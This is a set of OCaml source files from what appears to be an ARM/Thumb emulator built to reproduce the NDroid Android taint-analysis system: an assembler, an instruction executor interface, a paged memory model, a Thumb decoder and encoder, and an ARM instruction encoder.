    Insn.Dp { cond = Insn.AL; op = Insn.MOV; s = true; rd; rn = 0;
              op2 = Insn.Reg_shift_imm (rd, Insn.LSL, 8) };
    Insn.adds rd rd (Insn.Imm b0) ]

let insn_size mode insn =
  match mode with
  | Cpu.Arm -> 4
  | Cpu.Thumb -> (
    match Thumb.encode insn with
    | Some halves -> 2 * List.length halves
    | None -> err "no Thumb encoding for %s" (Insn.to_string insn))

let li_size mode = function
  | rd, imm -> (
    match mode with
    | Cpu.Arm -> 16
    | Cpu.Thumb ->
      List.fold_left (fun acc i -> acc + insn_size mode i) 0 (li_thumb rd imm))

(* Absolute calls go through a scratch register: r12 in ARM (the intra-call
   scratch register of the AAPCS), r7 in Thumb where only low registers can
   be loaded with immediates. *)
let call_scratch = function Cpu.Arm -> 12 | Cpu.Thumb -> 7

let call_size mode =
  let r = call_scratch mode in
  li_size mode (r, 0) + insn_size mode (Insn.blx_reg r)

let branch_size mode = function
  | `Cond -> (match mode with Cpu.Arm -> 4 | Cpu.Thumb -> 2)
  | `Bl -> 4

let item_size mode = function
  | I insn -> insn_size mode insn
  | Label _ -> 0
  | Br _ -> branch_size mode `Cond
  | Bl _ -> branch_size mode `Bl
  | Call _ -> call_size mode
  | Li (rd, imm) -> li_size mode (rd, imm)
  | La (rd, _) -> li_size mode (rd, 0)
  | Word _ -> 4
  | Asciz s -> String.length s + 1
  | Align4 -> 0 (* resolved during layout *)

let assemble ?(mode = Cpu.Arm) ?(extern = fun _ -> None) ~base items =
  (* Pass 1: addresses. *)
  let symbols = Hashtbl.create 16 in
  let addr = ref base in
  let layout =
    List.map
      (fun item ->
        let here = !addr in
        (match item with
         | Label name ->
           if Hashtbl.mem symbols name then err "duplicate label %s" name;
           Hashtbl.replace symbols name here
         | _ -> ());
        let size =
          match item with
          | Align4 -> (4 - (here mod 4)) mod 4
          | other -> item_size mode other
        in
        addr := here + size;
        (item, here, size))
      items
  in
  let total = !addr - base in
  let buf = Bytes.make total '\000' in
  let resolve name =
    match Hashtbl.find_opt symbols name with
    | Some a -> Some a
    | None -> extern name
  in
  let emit_insn pos insn =
    match mode with
    | Cpu.Arm ->
      let w =
        try Encode.encode insn
        with Encode.Encode_error m -> err "cannot encode %s: %s" (Insn.to_string insn) m
      in
      Bytes.set buf pos (Char.chr (w land 0xFF));
      Bytes.set buf (pos + 1) (Char.chr ((w lsr 8) land 0xFF));
      Bytes.set buf (pos + 2) (Char.chr ((w lsr 16) land 0xFF));
      Bytes.set buf (pos + 3) (Char.chr ((w lsr 24) land 0xFF));
      pos + 4
    | Cpu.Thumb -> (
      match Thumb.encode insn with
      | None -> err "no Thumb encoding for %s" (Insn.to_string insn)
      | Some halves ->
        List.fold_left
          (fun p h ->
            Bytes.set buf p (Char.chr (h land 0xFF));
            Bytes.set buf (p + 1) (Char.chr ((h lsr 8) land 0xFF));
            p + 2)
          pos halves)
  in
  let branch_offset here target =
    match mode with
    | Cpu.Arm ->
      let delta = target - (here + 8) in
      if delta mod 4 <> 0 then err "misaligned branch target 0x%x" target;
      delta / 4
    | Cpu.Thumb ->
      let delta = target - (here + 4) in
      if delta mod 2 <> 0 then err "misaligned branch target 0x%x" target;
      delta / 2
  in
  (* Pass 2: emit. *)
  List.iter
    (fun (item, here, size) ->
      let pos = here - base in
      match item with
      | Label _ | Align4 -> ()
      | I insn -> ignore (emit_insn pos insn)
      | Br (cond, name) -> (
        match resolve name with
        | None -> err "undefined label %s" name
        | Some target ->
          ignore
            (emit_insn pos
               (Insn.B { cond; link = false; offset = branch_offset here target })))
      | Bl name -> (
        match resolve name with
        | None -> err "undefined label %s" name
        | Some target ->
          ignore
            (emit_insn pos
               (Insn.B { cond = Insn.AL; link = true;
                         offset = branch_offset here target })))
      | Call name -> (
        match resolve name with
        | None -> err "undefined symbol %s" name
        | Some target ->
          let r = call_scratch mode in
          let seq =
            (match mode with Cpu.Arm -> li_arm | Cpu.Thumb -> li_thumb) r target
            @ [ Insn.blx_reg r ]
          in
          ignore (List.fold_left emit_insn pos seq))
      | Li (rd, imm) ->
        let seq = (match mode with Cpu.Arm -> li_arm | Cpu.Thumb -> li_thumb) rd imm in
        ignore (List.fold_left emit_insn pos seq)
      | La (rd, name) -> (
        match resolve name with
        | None -> err "undefined symbol %s" name
        | Some target ->
          let seq =
            (match mode with Cpu.Arm -> li_arm | Cpu.Thumb -> li_thumb) rd target
          in
          ignore (List.fold_left emit_insn pos seq))
      | Word v ->
        Bytes.set buf pos (Char.chr (v land 0xFF));
        Bytes.set buf (pos + 1) (Char.chr ((v lsr 8) land 0xFF));
        Bytes.set buf (pos + 2) (Char.chr ((v lsr 16) land 0xFF));
        Bytes.set buf (pos + 3) (Char.chr ((v lsr 24) land 0xFF))
      | Asciz s ->
        String.iteri (fun i c -> Bytes.set buf (pos + i) c) s;
        Bytes.set buf (pos + String.length s) '\000';
        ignore size)
    layout;
  { p_base = base; p_code = buf; p_mode = mode; p_symbols = symbols }

let code p = p.p_code
let base p = p.p_base
let size p = Bytes.length p.p_code
let mode p = p.p_mode

let symbols p = Hashtbl.fold (fun k v acc -> (k, v) :: acc) p.p_symbols []

let symbol p name =
  match Hashtbl.find_opt p.p_symbols name with
  | Some a -> a
  | None -> raise Not_found

let fn_addr p name =
  let a = symbol p name in
  match p.p_mode with Cpu.Arm -> a | Cpu.Thumb -> a lor 1

let load p mem = Memory.write_bytes mem p.p_base p.p_code

let of_raw ~base ~mode ~code ~symbols =
  let table = Hashtbl.create 16 in
  List.iter (fun (name, addr) -> Hashtbl.replace table name addr) symbols;
  { p_base = base; p_code = Bytes.copy code; p_mode = mode; p_symbols = table }
