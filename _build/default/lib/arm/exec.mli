(** Single-step instruction executor.

    Fetches at the CPU's PC (in the CPU's current instruction-set mode),
    decodes (through the optional hot-instruction cache), checks the
    condition, executes, and reports what happened.  Control transfers are
    reported so the emulator layer can drive hooks and host-function
    dispatch: "when processing a branch instruction, if the target method is
    in the list, NDroid will call its analysis functions" (paper,
    Sec. V-G). *)

exception Undefined of int * int
(** [Undefined (addr, word)]: fetched bits that the decoder rejects. *)

(** What one step did. *)
type step = {
  addr : int;  (** address the instruction was fetched from *)
  insn : Insn.t;
  size : int;  (** 2 or 4 bytes *)
  mode : Cpu.mode;  (** mode the instruction executed in *)
  executed : bool;  (** [false] when the condition failed *)
  branch : (int * int) option;
      (** [(from, to)] when control transferred anywhere but fall-through *)
  is_call : bool;  (** BL / BLX: a function call *)
  is_return : bool;  (** a recognised return idiom: BX lr, POP {..pc}, MOV pc *)
  svc : int option;  (** SVC immediate when a supervisor call was made *)
}

val fetch_decode : ?icache:Icache.t -> Cpu.t -> Memory.t -> int -> Insn.t * int
(** [fetch_decode cpu mem addr] decodes the instruction at [addr] in the
    CPU's current mode.  @raise Undefined on unsupported encodings. *)

val step : ?icache:Icache.t -> Cpu.t -> Memory.t -> step
(** Execute one instruction at the current PC.  Updates all CPU and memory
    state, including the PC (fall-through or branch target).
    @raise Undefined on unsupported encodings. *)
