let page_bits = 12
let page_size = 1 lsl page_bits
let page_mask = page_size - 1

type t = { pages : (int, Bytes.t) Hashtbl.t }

let create () = { pages = Hashtbl.create 64 }

let page m addr =
  let key = addr lsr page_bits in
  match Hashtbl.find_opt m.pages key with
  | Some p -> p
  | None ->
    let p = Bytes.make page_size '\000' in
    Hashtbl.replace m.pages key p;
    p

let norm addr = addr land 0xFFFFFFFF

let read_u8 m addr =
  let addr = norm addr in
  Char.code (Bytes.get (page m addr) (addr land page_mask))

let write_u8 m addr v =
  let addr = norm addr in
  Bytes.set (page m addr) (addr land page_mask) (Char.chr (v land 0xFF))

let read_u16 m addr = read_u8 m addr lor (read_u8 m (addr + 1) lsl 8)

let read_u32 m addr =
  read_u8 m addr
  lor (read_u8 m (addr + 1) lsl 8)
  lor (read_u8 m (addr + 2) lsl 16)
  lor (read_u8 m (addr + 3) lsl 24)

let write_u16 m addr v =
  write_u8 m addr v;
  write_u8 m (addr + 1) (v lsr 8)

let write_u32 m addr v =
  write_u8 m addr v;
  write_u8 m (addr + 1) (v lsr 8);
  write_u8 m (addr + 2) (v lsr 16);
  write_u8 m (addr + 3) (v lsr 24)

let read_bytes m addr n =
  let b = Bytes.create n in
  for i = 0 to n - 1 do
    Bytes.set b i (Char.chr (read_u8 m (addr + i)))
  done;
  b

let write_bytes m addr b =
  for i = 0 to Bytes.length b - 1 do
    write_u8 m (addr + i) (Char.code (Bytes.get b i))
  done

let write_string m addr s = write_bytes m addr (Bytes.of_string s)

let read_cstring m ?(max = 65536) addr =
  let buf = Buffer.create 32 in
  let rec loop i =
    if i >= max then Buffer.contents buf
    else
      let c = read_u8 m (addr + i) in
      if c = 0 then Buffer.contents buf
      else (
        Buffer.add_char buf (Char.chr c);
        loop (i + 1))
  in
  loop 0

let write_cstring m addr s =
  write_string m addr s;
  write_u8 m (addr + String.length s) 0

let read_f32 m addr = Int32.float_of_bits (Int32.of_int (read_u32 m addr))

let read_f64 m addr =
  let lo = Int64.of_int (read_u32 m addr)
  and hi = Int64.of_int (read_u32 m (addr + 4)) in
  Int64.float_of_bits (Int64.logor lo (Int64.shift_left hi 32))

let write_f32 m addr f =
  write_u32 m addr (Int32.to_int (Int32.bits_of_float f) land 0xFFFFFFFF)

let write_f64 m addr f =
  let bits = Int64.bits_of_float f in
  write_u32 m addr (Int64.to_int (Int64.logand bits 0xFFFFFFFFL));
  write_u32 m (addr + 4) (Int64.to_int (Int64.shift_right_logical bits 32))

let pages_touched m = Hashtbl.length m.pages
let clear m = Hashtbl.reset m.pages
