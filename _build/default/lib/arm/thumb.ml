let bits h hi lo = (h lsr lo) land ((1 lsl (hi - lo + 1)) - 1)
let flag h b = (h lsr b) land 1 = 1

let sign_extend v width =
  let m = 1 lsl (width - 1) in
  (v lxor m) - m

open Insn

let dp_s op rd rn op2 = Dp { cond = AL; op; s = true; rd; rn; op2 }

(* Format 4 "ALU operations" opcode table. *)
let alu_op code rd rm =
  match code with
  | 0 -> Some (dp_s AND rd rd (Reg rm))
  | 1 -> Some (dp_s EOR rd rd (Reg rm))
  | 2 -> Some (dp_s MOV rd 0 (Reg_shift_reg (rd, LSL, rm)))
  | 3 -> Some (dp_s MOV rd 0 (Reg_shift_reg (rd, LSR, rm)))
  | 4 -> Some (dp_s MOV rd 0 (Reg_shift_reg (rd, ASR, rm)))
  | 5 -> Some (dp_s ADC rd rd (Reg rm))
  | 6 -> Some (dp_s SBC rd rd (Reg rm))
  | 7 -> Some (dp_s MOV rd 0 (Reg_shift_reg (rd, ROR, rm)))
  | 8 -> Some (dp_s TST 0 rd (Reg rm))
  | 9 -> Some (dp_s RSB rd rm (Imm 0)) (* NEG *)
  | 10 -> Some (dp_s CMP 0 rd (Reg rm))
  | 11 -> Some (dp_s CMN 0 rd (Reg rm))
  | 12 -> Some (dp_s ORR rd rd (Reg rm))
  | 13 -> Some (Mul { cond = AL; s = true; rd; rm; rs = rd })
  | 14 -> Some (dp_s BIC rd rd (Reg rm))
  | 15 -> Some (dp_s MVN rd 0 (Reg rm))
  | _ -> None

let decode half next =
  let h = half land 0xFFFF in
  let ok insn = Some (insn, 2) in
  match bits h 15 13 with
  | 0b000 -> (
    match bits h 12 11 with
    | 0b11 ->
      (* add/sub register or 3-bit immediate *)
      let rd = bits h 2 0 and rn = bits h 5 3 in
      let op = if flag h 9 then SUB else ADD in
      let op2 = if flag h 10 then Imm (bits h 8 6) else Reg (bits h 8 6) in
      ok (dp_s op rd rn op2)
    | shift_code ->
      let rd = bits h 2 0 and rm = bits h 5 3 and imm5 = bits h 10 6 in
      let kind = Insn.shift_of_code shift_code in
      ok (dp_s MOV rd 0 (Reg_shift_imm (rm, kind, imm5))))
  | 0b001 ->
    let rd = bits h 10 8 and imm8 = bits h 7 0 in
    (match bits h 12 11 with
     | 0b00 -> ok (dp_s MOV rd 0 (Imm imm8))
     | 0b01 -> ok (dp_s CMP 0 rd (Imm imm8))
     | 0b10 -> ok (dp_s ADD rd rd (Imm imm8))
     | _ -> ok (dp_s SUB rd rd (Imm imm8)))
  | 0b010 ->
    if bits h 12 10 = 0b000 then
      (* format 4 ALU *)
      match alu_op (bits h 9 6) (bits h 2 0) (bits h 5 3) with
      | Some insn -> ok insn
      | None -> None
    else if bits h 12 10 = 0b001 then
      (* hi-register ops / BX *)
      let op = bits h 9 8 in
      let rm = bits h 6 3 in
      let rd = bits h 2 0 lor (if flag h 7 then 8 else 0) in
      (match op with
       | 0b00 -> ok (Dp { cond = AL; op = ADD; s = false; rd; rn = rd; op2 = Reg rm })
       | 0b01 -> ok (dp_s CMP 0 rd (Reg rm))
       | 0b10 -> ok (Dp { cond = AL; op = MOV; s = false; rd; rn = 0; op2 = Reg rm })
       | _ -> ok (Bx { cond = AL; link = flag h 7; rm }))
    else if bits h 12 11 = 0b01 then
      (* PC-relative load *)
      let rd = bits h 10 8 and imm8 = bits h 7 0 in
      ok
        (Mem
           { cond = AL; load = true; width = Word; rd; rn = 15;
             offset = Off_imm (imm8 * 4); pre = true; writeback = false })
    else
      (* register-offset load/store *)
      let rd = bits h 2 0 and rn = bits h 5 3 and rm = bits h 8 6 in
      let mk load width =
        ok
          (Mem
             { cond = AL; load; width; rd; rn;
               offset = Off_reg (true, rm, LSL, 0); pre = true; writeback = false })
      in
      (match bits h 11 9 with
       | 0b000 -> mk false Word
       | 0b001 -> mk false Half
       | 0b010 -> mk false Byte
       | 0b100 -> mk true Word
       | 0b101 -> mk true Half
       | 0b110 -> mk true Byte
       | _ -> None (* LDRSB / LDRSH unsupported *))
  | 0b011 ->
    let rd = bits h 2 0 and rn = bits h 5 3 and imm5 = bits h 10 6 in
    let byte = flag h 12 and load = flag h 11 in
    let width = if byte then Byte else Word in
    let off = if byte then imm5 else imm5 * 4 in
    ok
      (Mem
         { cond = AL; load; width; rd; rn; offset = Off_imm off; pre = true;
           writeback = false })
  | 0b100 ->
    if not (flag h 12) then
      (* halfword imm *)
      let rd = bits h 2 0 and rn = bits h 5 3 and imm5 = bits h 10 6 in
      ok
        (Mem
           { cond = AL; load = flag h 11; width = Half; rd; rn;
             offset = Off_imm (imm5 * 2); pre = true; writeback = false })
    else
      (* SP-relative load/store *)
      let rd = bits h 10 8 and imm8 = bits h 7 0 in
      ok
        (Mem
           { cond = AL; load = flag h 11; width = Word; rd; rn = 13;
             offset = Off_imm (imm8 * 4); pre = true; writeback = false })
  | 0b101 ->
    if not (flag h 12) then
      (* ADD Rd, PC/SP, #imm8*4 *)
      let rd = bits h 10 8 and imm8 = bits h 7 0 in
      let rn = if flag h 11 then 13 else 15 in
      ok (Dp { cond = AL; op = ADD; s = false; rd; rn; op2 = Imm (imm8 * 4) })
    else if bits h 11 8 = 0b0000 then
      (* ADD/SUB SP, #imm7*4 *)
      let imm = bits h 6 0 * 4 in
      let op = if flag h 7 then SUB else ADD in
      ok (Dp { cond = AL; op; s = false; rd = 13; rn = 13; op2 = Imm imm })
    else if bits h 11 9 = 0b010 then
      (* PUSH, optionally with LR *)
      let regs = bits h 7 0 lor if flag h 8 then 1 lsl 14 else 0 in
      if regs = 0 then None
      else ok (Block { cond = AL; load = false; rn = 13; mode = DB; writeback = true; regs })
    else if bits h 11 9 = 0b110 then
      (* POP, optionally with PC *)
      let regs = bits h 7 0 lor if flag h 8 then 1 lsl 15 else 0 in
      if regs = 0 then None
      else ok (Block { cond = AL; load = true; rn = 13; mode = IA; writeback = true; regs })
    else None
  | 0b110 ->
    if not (flag h 12) then
      (* LDMIA/STMIA Rn!, {...} *)
      let rn = bits h 10 8 and regs = bits h 7 0 in
      if regs = 0 then None
      else
        ok (Block { cond = AL; load = flag h 11; rn; mode = IA; writeback = true; regs })
    else
      let cond_bits = bits h 11 8 in
      if cond_bits = 0b1111 then ok (Svc { cond = AL; imm = bits h 7 0 })
      else (
        match Insn.cond_of_code cond_bits with
        | Some AL | None -> None
        | Some cond ->
          ok (B { cond; link = false; offset = sign_extend (bits h 7 0) 8 }))
  | _ ->
    (* 0b111 *)
    if bits h 12 11 = 0b00 then
      ok (B { cond = AL; link = false; offset = sign_extend (bits h 10 0) 11 })
    else if bits h 12 11 = 0b10 then (
      (* BL prefix; needs suffix halfword 11111 imm11 *)
      match next with
      | Some n when bits n 15 11 = 0b11111 ->
        let offset = (sign_extend (bits h 10 0) 11 lsl 11) lor bits n 10 0 in
        Some (B { cond = AL; link = true; offset }, 4)
      | _ -> None)
    else None

let fits_low r = r >= 0 && r <= 7
let fits_imm8 v = v >= 0 && v <= 255

let encode insn =
  match insn with
  | Dp { cond = AL; op = MOV; s = true; rd; rn = _; op2 = Imm v }
    when fits_low rd && fits_imm8 v ->
    Some [ (0b00100 lsl 11) lor (rd lsl 8) lor v ]
  | Dp { cond = AL; op = CMP; s = true; rd = _; rn; op2 = Imm v }
    when fits_low rn && fits_imm8 v ->
    Some [ (0b00101 lsl 11) lor (rn lsl 8) lor v ]
  | Dp { cond = AL; op = ADD; s = true; rd; rn; op2 = Imm v }
    when rd = rn && fits_low rd && fits_imm8 v ->
    Some [ (0b00110 lsl 11) lor (rd lsl 8) lor v ]
  | Dp { cond = AL; op = SUB; s = true; rd; rn; op2 = Imm v }
    when rd = rn && fits_low rd && fits_imm8 v ->
    Some [ (0b00111 lsl 11) lor (rd lsl 8) lor v ]
  | Dp { cond = AL; op = ADD; s = true; rd; rn; op2 = Reg rm }
    when fits_low rd && fits_low rn && fits_low rm ->
    Some [ (0b0001100 lsl 9) lor (rm lsl 6) lor (rn lsl 3) lor rd ]
  | Dp { cond = AL; op = SUB; s = true; rd; rn; op2 = Reg rm }
    when fits_low rd && fits_low rn && fits_low rm ->
    Some [ (0b0001101 lsl 9) lor (rm lsl 6) lor (rn lsl 3) lor rd ]
  | Dp { cond = AL; op = ADD; s = true; rd; rn; op2 = Imm v }
    when fits_low rd && fits_low rn && v >= 0 && v <= 7 ->
    Some [ (0b0001110 lsl 9) lor (v lsl 6) lor (rn lsl 3) lor rd ]
  | Dp { cond = AL; op = SUB; s = true; rd; rn; op2 = Imm v }
    when fits_low rd && fits_low rn && v >= 0 && v <= 7 ->
    Some [ (0b0001111 lsl 9) lor (v lsl 6) lor (rn lsl 3) lor rd ]
  | Dp { cond = AL; op = MOV; s = true; rd; rn = _; op2 = Reg_shift_imm (rm, kind, n) }
    when fits_low rd && fits_low rm && kind <> ROR && n <= 31 ->
    Some [ (Insn.shift_code kind lsl 11) lor (n lsl 6) lor (rm lsl 3) lor rd ]
  | Dp { cond = AL; op; s = true; rd; rn; op2 = Reg rm }
    when fits_low rd && fits_low rm
         && (match op with
             | AND | EOR | ADC | SBC | ORR | BIC -> rd = rn
             | TST | CMP | CMN -> fits_low rn
             | MVN -> true
             | _ -> false) ->
    let code =
      match op with
      | AND -> Some 0
      | EOR -> Some 1
      | ADC -> Some 5
      | SBC -> Some 6
      | TST -> Some 8
      | CMP -> Some 10
      | CMN -> Some 11
      | ORR -> Some 12
      | BIC -> Some 14
      | MVN -> Some 15
      | _ -> None
    in
    (match code with
     | Some c ->
       let rdn = if Insn.is_test_op op then rn else rd in
       Some [ (0b010000 lsl 10) lor (c lsl 6) lor (rm lsl 3) lor rdn ]
     | None -> None)
  | Dp { cond = AL; op = RSB; s = true; rd; rn; op2 = Imm 0 }
    when fits_low rd && fits_low rn ->
    Some [ (0b010000 lsl 10) lor (9 lsl 6) lor (rn lsl 3) lor rd ]
  | Dp { cond = AL; op = MOV; s = false; rd; rn = _; op2 = Reg rm } ->
    let h1 = if rd > 7 then 1 else 0 in
    Some [ (0b01000110 lsl 8) lor (h1 lsl 7) lor (rm lsl 3) lor (rd land 7) ]
  | Mul { cond = AL; s = true; rd; rm; rs } when fits_low rd && fits_low rm && rd = rs
    ->
    Some [ (0b010000 lsl 10) lor (13 lsl 6) lor (rm lsl 3) lor rd ]
  | Mem { cond = AL; load; width = Word; rd; rn; offset = Off_imm v; pre = true;
          writeback = false }
    when fits_low rd && fits_low rn && v >= 0 && v <= 124 && v mod 4 = 0 ->
    let l = if load then 1 else 0 in
    Some [ (0b011 lsl 13) lor (0 lsl 12) lor (l lsl 11) lor ((v / 4) lsl 6)
           lor (rn lsl 3) lor rd ]
  | Mem { cond = AL; load; width = Byte; rd; rn; offset = Off_imm v; pre = true;
          writeback = false }
    when fits_low rd && fits_low rn && v >= 0 && v <= 31 ->
    let l = if load then 1 else 0 in
    Some [ (0b011 lsl 13) lor (1 lsl 12) lor (l lsl 11) lor (v lsl 6) lor (rn lsl 3)
           lor rd ]
  | Mem { cond = AL; load; width = Half; rd; rn; offset = Off_imm v; pre = true;
          writeback = false }
    when fits_low rd && fits_low rn && v >= 0 && v <= 62 && v mod 2 = 0 ->
    let l = if load then 1 else 0 in
    Some [ (0b1000 lsl 12) lor (l lsl 11) lor ((v / 2) lsl 6) lor (rn lsl 3) lor rd ]
  | Block { cond = AL; load = false; rn = 13; mode = DB; writeback = true; regs }
    when regs land lnot 0x40FF = 0 && regs <> 0 ->
    let r = if regs land 0x4000 <> 0 then 1 else 0 in
    Some [ (0b1011010 lsl 9) lor (r lsl 8) lor (regs land 0xFF) ]
  | Block { cond = AL; load = true; rn = 13; mode = IA; writeback = true; regs }
    when regs land lnot 0x80FF = 0 && regs <> 0 ->
    let r = if regs land 0x8000 <> 0 then 1 else 0 in
    Some [ (0b1011110 lsl 9) lor (r lsl 8) lor (regs land 0xFF) ]
  | B { cond = AL; link = false; offset } when offset >= -1024 && offset < 1024 ->
    Some [ (0b11100 lsl 11) lor (offset land 0x7FF) ]
  | B { cond = AL; link = true; offset }
    when offset >= -(1 lsl 21) && offset < 1 lsl 21 ->
    let hi = (offset asr 11) land 0x7FF and lo = offset land 0x7FF in
    Some [ (0b11110 lsl 11) lor hi; (0b11111 lsl 11) lor lo ]
  | B { cond; link = false; offset }
    when cond <> AL && offset >= -128 && offset < 128 ->
    Some [ (0b1101 lsl 12) lor (Insn.cond_code cond lsl 8) lor (offset land 0xFF) ]
  | Bx { cond = AL; link; rm } ->
    let l = if link then 1 else 0 in
    Some [ (0b01000111 lsl 8) lor (l lsl 7) lor (rm lsl 3) ]
  | Svc { cond = AL; imm } when fits_imm8 imm ->
    Some [ (0b11011111 lsl 8) lor imm ]
  | _ -> None

let encodable insn = encode insn <> None
