(* Binary encoder for the ARM instruction subset.

   Produces real ARMv5/VFPv2-compatible 32-bit words so that the decoder (and
   NDroid's instruction tracer, which works from decoded instructions, paper
   Sec. V-C) operates on genuine machine code rather than on an AST shipped
   around the simulator. *)

exception Encode_error of string

let err fmt = Format.kasprintf (fun s -> raise (Encode_error s)) fmt

let mask32 = 0xFFFFFFFF

(* ARM immediates are an 8-bit value rotated right by an even amount.  Find
   the encoding of [v] or raise. *)
let rotated_imm v =
  let v = v land mask32 in
  let rec try_rot rot =
    if rot >= 16 then None
    else
      let amount = rot * 2 in
      (* value = imm8 ror amount, so imm8 = value rol amount *)
      let rotated = ((v lsl amount) lor (v lsr (32 - amount))) land mask32 in
      if amount = 0 then if v < 256 then Some (0, v) else try_rot (rot + 1)
      else if rotated < 256 then Some (rot, rotated)
      else try_rot (rot + 1)
  in
  try_rot 0

let imm_encodable v = rotated_imm (v land mask32) <> None

let check_reg name r = if r < 0 || r > 15 then err "%s: bad register %d" name r

let op2_bits = function
  | Insn.Imm v -> (
    match rotated_imm v with
    | Some (rot, imm8) -> (1, (rot lsl 8) lor imm8)
    | None -> err "immediate %d not encodable as rotated imm8" v)
  | Insn.Reg rm ->
    check_reg "op2" rm;
    (0, rm)
  | Insn.Reg_shift_imm (rm, kind, amount) ->
    check_reg "op2" rm;
    if amount < 0 || amount > 31 then err "shift amount %d out of range" amount;
    (0, (amount lsl 7) lor (Insn.shift_code kind lsl 5) lor rm)
  | Insn.Reg_shift_reg (rm, kind, rs) ->
    check_reg "op2" rm;
    check_reg "shift reg" rs;
    (0, (rs lsl 8) lor (Insn.shift_code kind lsl 5) lor 0x10 lor rm)

let bit b v = if b then v else 0

(* Single-precision VFP register s<n> splits as (hi4, lowbit); double d<n> as
   (lowbit? no: D is the high bit). *)
let sreg n =
  if n < 0 || n > 31 then err "s%d out of range" n;
  (n lsr 1, n land 1)

let dreg n =
  if n < 0 || n > 15 then err "d%d out of range" n;
  (n, 0)

let vfp_regs prec n =
  match prec with Insn.F32 -> sreg n | Insn.F64 -> dreg n

let encode insn =
  let cond c = Insn.cond_code c lsl 28 in
  let word =
    match insn with
    | Insn.Dp { cond = c; op; s; rd; rn; op2 } ->
      check_reg "rd" rd;
      check_reg "rn" rn;
      let i, operand = op2_bits op2 in
      (* Test ops always set flags; encode them with S=1 as the architecture
         requires. *)
      let s = s || Insn.is_test_op op in
      cond c lor (i lsl 25)
      lor (Insn.dp_code op lsl 21)
      lor bit s (1 lsl 20)
      lor (rn lsl 16) lor (rd lsl 12) lor operand
    | Insn.Mul { cond = c; s; rd; rm; rs } ->
      check_reg "rd" rd;
      check_reg "rm" rm;
      check_reg "rs" rs;
      cond c lor bit s (1 lsl 20) lor (rd lsl 16) lor (rs lsl 8) lor 0x90 lor rm
    | Insn.Mla { cond = c; s; rd; rm; rs; rn } ->
      check_reg "rd" rd;
      cond c lor (1 lsl 21) lor bit s (1 lsl 20) lor (rd lsl 16) lor (rn lsl 12)
      lor (rs lsl 8) lor 0x90 lor rm
    | Insn.Mull { cond = c; signed; s; rdlo; rdhi; rm; rs } ->
      check_reg "rdlo" rdlo;
      check_reg "rdhi" rdhi;
      cond c lor (1 lsl 23) lor bit signed (1 lsl 22) lor bit s (1 lsl 20)
      lor (rdhi lsl 16) lor (rdlo lsl 12) lor (rs lsl 8) lor 0x90 lor rm
    | Insn.Clz { cond = c; rd; rm } ->
      check_reg "rd" rd;
      check_reg "rm" rm;
      cond c lor 0x016F0F10 lor (rd lsl 12) lor rm
    | Insn.Mem { cond = c; load; width = Insn.Half; rd; rn; offset; pre; writeback }
      ->
      check_reg "rd" rd;
      check_reg "rn" rn;
      let u, ibits =
        match offset with
        | Insn.Off_imm v ->
          let a = abs v in
          if a > 255 then err "halfword offset %d out of range" v;
          (v >= 0, (1 lsl 22) lor ((a lsr 4) lsl 8) lor (a land 0xF))
        | Insn.Off_reg (up, rm, Insn.LSL, 0) -> (up, rm)
        | Insn.Off_reg _ -> err "halfword transfers take unshifted registers"
      in
      cond c lor bit pre (1 lsl 24) lor bit u (1 lsl 23) lor bit writeback (1 lsl 21)
      lor bit load (1 lsl 20)
      lor (rn lsl 16) lor (rd lsl 12) lor 0xB0 lor ibits
    | Insn.Mem { cond = c; load; width; rd; rn; offset; pre; writeback } ->
      check_reg "rd" rd;
      check_reg "rn" rn;
      let byte = width = Insn.Byte in
      let i, u, off =
        match offset with
        | Insn.Off_imm v ->
          let a = abs v in
          if a > 4095 then err "offset %d out of range" v;
          (0, v >= 0, a)
        | Insn.Off_reg (up, rm, kind, amount) ->
          check_reg "offset reg" rm;
          if amount < 0 || amount > 31 then err "shift %d out of range" amount;
          (1, up, (amount lsl 7) lor (Insn.shift_code kind lsl 5) lor rm)
      in
      cond c lor (1 lsl 26) lor (i lsl 25) lor bit pre (1 lsl 24)
      lor bit u (1 lsl 23) lor bit byte (1 lsl 22)
      lor bit writeback (1 lsl 21)
      lor bit load (1 lsl 20)
      lor (rn lsl 16) lor (rd lsl 12) lor off
    | Insn.Block { cond = c; load; rn; mode; writeback; regs } ->
      check_reg "rn" rn;
      if regs land 0xFFFF <> regs || regs = 0 then err "bad register list %x" regs;
      let p, u =
        match mode with
        | Insn.IA -> (false, true)
        | Insn.IB -> (true, true)
        | Insn.DA -> (false, false)
        | Insn.DB -> (true, false)
      in
      cond c lor (1 lsl 27) lor bit p (1 lsl 24) lor bit u (1 lsl 23)
      lor bit writeback (1 lsl 21)
      lor bit load (1 lsl 20)
      lor (rn lsl 16) lor regs
    | Insn.B { cond = c; link; offset } ->
      if offset < -(1 lsl 23) || offset >= 1 lsl 23 then
        err "branch offset %d out of range" offset;
      cond c lor (5 lsl 25) lor bit link (1 lsl 24) lor (offset land 0xFFFFFF)
    | Insn.Bx { cond = c; link; rm } ->
      check_reg "rm" rm;
      cond c lor 0x012FFF10 lor bit link 0x20 lor rm
    | Insn.Svc { cond = c; imm } ->
      if imm < 0 || imm > 0xFFFFFF then err "svc %d out of range" imm;
      cond c lor (0xF lsl 24) lor imm
    | Insn.Vdp { cond = c; op; prec; vd; vn; vm } ->
      let vd4, d = vfp_regs prec vd
      and vn4, n = vfp_regs prec vn
      and vm4, m = vfp_regs prec vm in
      let sz = match prec with Insn.F32 -> 0 | Insn.F64 -> 1 in
      let hi, op21_20, bit6 =
        match op with
        | Insn.VADD -> (0b11100, 0b11, 0)
        | Insn.VSUB -> (0b11100, 0b11, 1)
        | Insn.VMUL -> (0b11100, 0b10, 0)
        | Insn.VDIV -> (0b11101, 0b00, 0)
      in
      cond c lor (hi lsl 23) lor (d lsl 22) lor (op21_20 lsl 20) lor (vn4 lsl 16)
      lor (vd4 lsl 12) lor (0b101 lsl 9) lor (sz lsl 8) lor (n lsl 7)
      lor (bit6 lsl 6) lor (m lsl 5) lor vm4
    | Insn.Vmem { cond = c; load; prec; vd; rn; offset } ->
      check_reg "rn" rn;
      if offset mod 4 <> 0 then err "vfp offset %d not word aligned" offset;
      let words = offset / 4 in
      if abs words > 255 then err "vfp offset %d out of range" offset;
      let vd4, d = vfp_regs prec vd in
      let sz = match prec with Insn.F32 -> 0 | Insn.F64 -> 1 in
      cond c lor (0b1101 lsl 24)
      lor bit (words >= 0) (1 lsl 23)
      lor (d lsl 22)
      lor bit load (1 lsl 20)
      lor (rn lsl 16) lor (vd4 lsl 12) lor (0b101 lsl 9) lor (sz lsl 8)
      lor (abs words land 0xFF)
